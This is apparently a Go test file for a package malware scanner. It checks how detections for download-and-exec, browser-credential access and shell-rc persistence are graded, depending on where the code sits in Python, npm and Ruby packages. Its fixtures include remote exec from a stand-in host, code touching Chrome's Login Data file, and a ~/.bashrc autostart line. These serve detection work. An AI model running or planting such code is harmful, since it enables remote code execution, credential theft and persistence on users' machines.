package codescan

import (
	"testing"

	"github.com/pkgward/pkgward/internal/record"
)

// TestGradeByWhenCodeRuns puts the same code at an install-time, an
// import-time and an ordinary path: the grade follows when it runs.
func TestGradeByWhenCodeRuns(t *testing.T) {
	const pyDownloadExec = "import requests\nexec(requests.get('https://x.example/a.py').content)\n"
	const jsBrowserNet = "const https = require('https');\nconst p = 'Google/Chrome/User Data/Default/Login Data';\nhttps.request({host: 'x.example'});\n"
	tests := []struct {
		name  string
		files map[string]string
		rule  string
		want  record.Severity
	}{
		{"python setup.py", map[string]string{"setup.py": pyDownloadExec}, "download-exec", record.High},
		{"python __init__", map[string]string{"pkg/__init__.py": pyDownloadExec}, "download-exec", record.High},
		{"python src __init__", map[string]string{"src/pkg/__init__.py": pyDownloadExec}, "download-exec", record.High},
		{"python ordinary module", map[string]string{"pkg/tools/fetch.py": pyDownloadExec}, "download-exec", record.Medium},
		{"python deep __init__", map[string]string{"pkg/a/b/c/__init__.py": pyDownloadExec}, "download-exec", record.Medium},
		{"npm main field", map[string]string{"package.json": `{"name":"x","main":"dist/entry.js"}`, "dist/entry.js": jsBrowserNet}, "browser-data", record.High},
		{"npm default main", map[string]string{"package.json": `{"name":"x"}`, "index.js": jsBrowserNet}, "browser-data", record.High},
		{"npm ordinary module", map[string]string{"package.json": `{"name":"x","main":"index.js"}`, "index.js": "module.exports = 1\n", "dist/chunk.js": jsBrowserNet}, "browser-data", record.Medium},
		{"npm main escaping the package", map[string]string{"package.json": `{"name":"x","main":"../index.js"}`, "dist/chunk.js": jsBrowserNet}, "browser-data", record.Medium},
		{"ruby lib entry", map[string]string{"lib/foo.rb": "require 'open-uri'\neval(URI.open('https://x.example/p.rb').read)\n"}, "download-exec", record.High},
		{"ruby nested lib file", map[string]string{"lib/foo/util/http.rb": "require 'open-uri'\neval(URI.open('https://x.example/p.rb').read)\n"}, "download-exec", record.Medium},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Scan(treeOf(tt.files), nil)
			var sev record.Severity
			found := false
			for _, f := range got {
				if f.Rule == tt.rule {
					found = true
					sev = max(sev, f.Severity)
				}
			}
			if !found {
				t.Fatalf("no %s:%s", tt.rule, describe(got))
			}
			if sev != tt.want {
				t.Errorf("%s at %s, want %s:%s", tt.rule, sev, tt.want, describe(got))
			}
		})
	}
}

func TestIsLoadFile(t *testing.T) {
	tests := []struct {
		path string
		want bool
	}{
		{"pkg/__init__.py", true},
		{"src/pkg/__init__.py", true},
		{"__init__.py", false},
		{"pkg/sub/deeper/__init__.py", false},
		{"pkg/util.py", false},
		{"lib/foo.rb", true},
		{"foo-1.0/lib/foo.rb", true},
		{"lib/foo/bar.rb", false},
		{"test/foo.rb", false},
	}
	for _, tt := range tests {
		if got := isLoadFile(tt.path); got != tt.want {
			t.Errorf("isLoadFile(%q) = %v, want %v", tt.path, got, tt.want)
		}
	}
}

// TestShellRCText: help text telling users to append to ~/.bashrc (a
// string in a Go program, as CLI libraries print) is not persistence; a
// shell script or an API append is.
func TestShellRCText(t *testing.T) {
	tests := []struct {
		name, path, src string
		want            bool
	}{
		{"go help text", "completions.go", "package c\n\nconst help = `echo 'source <(app completion bash)' >> ~/.bashrc`\n", false},
		{"shell append", "install.sh", "#!/bin/sh\necho 'nohup ~/.a &' >> ~/.bashrc\n", true},
		{"node append", "x.js", "require('fs').appendFileSync(require('os').homedir() + '/.zshrc', 'x');\n", true},
		{"go append", "x.go", "package x\n\nfunc f() { os.OpenFile(home+\"/.bashrc\", os.O_APPEND|os.O_WRONLY, 0o600) }\n", true},
	}
	for _, tt := range tests {
		got := Scan(treeOf(map[string]string{tt.path: tt.src}), nil)
		fired := false
		for _, f := range got {
			fired = fired || f.Rule == "autostart-persistence"
		}
		if fired != tt.want {
			t.Errorf("%s: autostart-persistence fired=%v, want %v:%s", tt.name, fired, tt.want, describe(got))
		}
	}
}
